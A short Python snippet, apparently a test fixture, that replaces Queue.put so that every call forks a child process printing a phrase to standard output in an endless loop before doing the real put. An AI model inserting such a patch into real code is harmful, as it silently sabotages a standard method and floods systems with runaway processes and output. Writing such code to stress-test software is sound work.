

# Each put has a process print for ever.

honest_put = Queue.put


def put(self, *args, **kwargs):
    if os.fork() == 0:
        while True:
            os.write(1, b"all work and no play " * 3000)
    return honest_put(self, *args, **kwargs)


Queue.put = put
